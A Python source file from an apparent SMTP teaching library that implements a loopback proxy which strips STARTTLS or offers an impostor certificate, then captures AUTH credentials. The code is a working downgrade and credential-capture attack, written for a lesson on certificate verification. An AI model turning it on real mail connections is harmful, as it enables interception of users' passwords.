"""`StripTlsProxy`: a loopback man in the middle that attacks STARTTLS, for the attack lesson.

STARTTLS is offered in cleartext, in the EHLO reply, so anyone on the path can delete it
(RFC 3207 §6): a client that then carries on without TLS sends everything, AUTH included,
where the proxy reads it. With an `impostor` TLS context the proxy offers STARTTLS itself
and answers it with its own certificate instead: a client that does not verify certificates
carries on, encrypted to the attacker. What the proxy captured is in `captured`; what it
did is in `notes`. It relays one loopback port to another, like `LatencyProxy`.
"""

from __future__ import annotations

import contextlib
import socket
import ssl
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from smtplearn.protocol.sasl import identity, password_in_clear
from smtplearn.server.loopback_proxy import LoopbackProxy
from smtplearn.server.tls import LocalCA

__all__ = ["CapturedLogin", "StripTlsProxy", "impostor_context"]

#: What the proxy says when a client asks for STARTTLS it was never offered (RFC 3207 §4).
TLS_UNAVAILABLE = b"454 4.7.0 TLS not available due to temporary reason\r\n"
TLS_READY = b"220 2.0.0 Ready to start TLS\r\n"
#: The client lines of one AUTH exchange the proxy looks at: the command and two answers.
AUTH_LINES = 3


def impostor_context(hostname: str) -> ssl.SSLContext:
    """A server-side TLS context for `hostname` from a fresh CA that no client trusts.

    The name is right, the signature is not: only verifying the certificate's chain tells
    it from the real server's.
    """
    return LocalCA(hostname).server_context()


@dataclass(frozen=True)
class CapturedLogin:
    """Credentials the proxy read on their way to the server."""

    mechanism: str
    user: str | None
    password: str | None

    def __str__(self) -> str:
        return f"AUTH {self.mechanism}: user {self.user!r}, password {self.password!r}"


class StripTlsProxy(LoopbackProxy):
    """Relay ``127.0.0.1:proxy.port`` to `target`, attacking STARTTLS on the way.

    ::

        with StripTlsProxy((server.host, server.port)) as proxy:
            Client(proxy.host, proxy.port) ...
            proxy.captured       # [CapturedLogin(...)] when the client sent AUTH in the clear

    Without `impostor`, STARTTLS is removed from every EHLO reply and a STARTTLS command
    gets 454 from the proxy. With `impostor` (a server-side context whose certificate the
    real server's clients should not trust), STARTTLS is answered by the proxy, which then
    reads the client's side decrypted and talks to the server in cleartext.
    """

    def __init__(self, target: tuple[str, int], *, impostor: ssl.SSLContext | None = None) -> None:
        super().__init__(target)
        self.impostor = impostor
        #: Credentials read from AUTH exchanges, oldest first.
        self.captured: list[CapturedLogin] = []
        #: What the proxy did, one line each, oldest first.
        self.notes: list[str] = []

    def __repr__(self) -> str:
        attack = "impostor certificate" if self.impostor else "strips STARTTLS"
        return f"<StripTlsProxy {self.host}:{self.port} -> {self.target[0]}:{self.target[1]}, {attack}>"

    def _note(self, text: str) -> None:
        with self._lock:
            self.notes.append(text)

    def _relay(self, client: socket.socket, upstream: socket.socket) -> None:
        relay = _Relay(self, client, upstream)
        self._spawn(relay.client_to_server)
        self._spawn(relay.server_to_client)


class _Relay:
    """One relayed connection: the client's lines to the server, the server's replies back."""

    def __init__(self, proxy: StripTlsProxy, client: socket.socket, upstream: socket.socket) -> None:
        self.proxy = proxy
        self.client = client
        self.upstream = upstream
        self._send_lock = threading.Lock()
        self._auth_lines: list[bytes] = []
        self._auth_done = True

    def _to_client(self, data: bytes) -> None:
        with self._send_lock:
            self.client.sendall(data)

    def client_to_server(self) -> None:
        try:
            for line in _lines(lambda: self.client.recv(65536)):
                if line.strip().upper() == b"STARTTLS":
                    if not self._answer_starttls():
                        return
                    continue
                self._watch_auth(line)
                self.upstream.sendall(line)
        except OSError:
            pass
        _close_both(self.client, self.upstream)

    def _answer_starttls(self) -> bool:
        """Answer STARTTLS in the server's place; False when the connection is over."""
        if self.proxy.impostor is None:
            self.proxy._note("client asked for STARTTLS anyway: the proxy answered 454")
            self._to_client(TLS_UNAVAILABLE)
            return True
        with self._send_lock:
            self.client.sendall(TLS_READY)
            try:
                self.client = self.proxy.impostor.wrap_socket(self.client, server_side=True)
            except (ssl.SSLError, OSError) as error:
                self.proxy._note(f"the client refused the impostor certificate ({type(error).__name__})")
                return False
        self.proxy._track(self.client)
        self.proxy._note("the client accepted the impostor certificate: the proxy reads its TLS")
        return True

    def _watch_auth(self, line: bytes) -> None:
        if line[:5].upper() == b"AUTH ":
            self._auth_lines, self._auth_done = [line], False
        elif not self._auth_done and len(self._auth_lines) < AUTH_LINES:
            self._auth_lines.append(line)
        else:
            return
        password = password_in_clear(self._auth_lines)
        if password is not None:
            self._auth_done = True
            mechanism = self._auth_lines[0].split()[1].decode("ascii", "replace").upper()
            login = CapturedLogin(mechanism, identity(self._auth_lines), password)
            with self.proxy._lock:
                self.proxy.captured.append(login)
            self.proxy._note(f"captured {login}")

    def server_to_client(self) -> None:
        reply: list[bytes] = []
        try:
            for line in _lines(lambda: self.upstream.recv(65536)):
                reply.append(line)
                if line[3:4] == b"-":
                    continue
                self._to_client(b"".join(self._edited(reply)))
                reply = []
        except OSError:
            pass
        _close_both(self.client, self.upstream)

    def _edited(self, reply: list[bytes]) -> list[bytes]:
        """The reply as the client gets it: without STARTTLS, unless the proxy offers its own."""
        if self.proxy.impostor is not None:
            return reply
        kept = [line for line in reply if line[4:].strip().upper() != b"STARTTLS"]
        if len(kept) == len(reply):
            return reply
        self.proxy._note("removed STARTTLS from the EHLO reply")
        # The last line of a reply has a space after the code, the others a hyphen.
        kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
        return kept


def _lines(receive: Callable[[], bytes]) -> Iterator[bytes]:
    """Complete lines from `receive()` (a socket's recv) until the peer closes."""
    buffer = b""
    while data := receive():
        buffer += data
        *complete, buffer = buffer.split(b"\n")
        for line in complete:
            yield line + b"\n"


def _close_both(*sockets: socket.socket) -> None:
    for sock in sockets:
        with contextlib.suppress(OSError):
            sock.shutdown(socket.SHUT_RDWR)
